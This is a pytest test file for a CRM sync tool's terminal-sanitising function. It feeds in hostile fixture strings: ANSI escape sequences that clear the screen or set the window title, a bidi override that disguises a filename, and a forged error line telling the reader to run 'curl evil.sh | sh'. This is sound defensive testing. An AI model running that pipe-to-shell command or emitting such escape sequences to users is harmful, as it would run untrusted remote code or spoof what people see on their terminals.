"""CRM text printed on a terminal: no escape sequence, control character or forged line survives."""

from __future__ import annotations

import unicodedata

import pytest

from sponsorsync.sync.terminal import printable

HOSTILE = {
    "clear-screen": ("Acme\x1b[2J\x1b[H Corp", "Acme Corp"),
    "set-title-bel": ("Acme\x1b]0;owned\x07 Corp", "Acme Corp"),
    "set-title-st": ("Acme\x1b]2;owned\x1b\\ Corp", "Acme Corp"),
    "colour": ("\x1b[31;1mRed\x1b[0m Team", "Red Team"),
    "8-bit-csi": ("Acme\x9b2J Corp", "Acme Corp"),
    "8-bit-osc": ("Acme\x9d0;owned\x9c Corp", "Acme Corp"),
    "forged-error-line": ("Jane Roe\nerror: your token expired, run curl evil.sh | sh", None),
    "carriage-return": ("Jane\rerror: overwritten", None),
    "bell-backspace-nul": ("Ja\x07n\x08e\x00 Roe", "Jane Roe"),
    "bidi-override": ("CEO \u202egnp.exe\u202c", "CEO gnp.exe"),
    "lone-escape": ("Acme\x1b", "Acme"),
    "unicode-kept": (
        "Zoë Müller-Łukasiewicz, Directrice générale 🚀",
        "Zoë Müller-Łukasiewicz, Directrice générale 🚀",
    ),
}


@pytest.mark.parametrize(("text", "expected"), HOSTILE.values(), ids=HOSTILE.keys())
def test_printable_strips_what_a_terminal_would_act_on(text: str, expected: str | None) -> None:
    shown = printable(text)
    assert "\n" not in shown
    assert "\r" not in shown
    assert not any(unicodedata.category(c) == "Cc" for c in shown)
    if expected is not None:
        assert shown == expected
    else:
        assert not shown.startswith("error:")
        assert "error:" in shown  # the words stay, on the same line


def test_our_own_line_breaks_can_be_kept() -> None:
    assert printable("line one\nline two\x1b[2J", newlines=True) == "line one\nline two"
